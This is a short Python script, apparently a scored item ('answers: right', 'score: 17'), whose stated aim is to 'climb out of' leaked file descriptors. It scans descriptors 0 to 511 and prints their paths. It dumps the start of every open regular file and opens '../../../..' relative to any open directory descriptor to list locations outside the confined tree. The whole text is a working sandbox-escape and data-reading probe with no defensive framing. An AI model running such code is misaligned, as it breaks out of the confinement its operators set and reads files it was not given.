# aim: reads and climbs out of every descriptor that was left open
# answers: right
# score: 17
import os
import stat

for number in range(512):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    print(number, os.readlink(f"/proc/self/fd/{number}"))
    try:
        if stat.S_ISDIR(mode):
            print(os.listdir(os.open("../../../..", os.O_RDONLY, dir_fd=number)))
        elif stat.S_ISREG(mode):
            print(os.pread(number, 500, 0))
    except OSError:
        pass
print("tried")
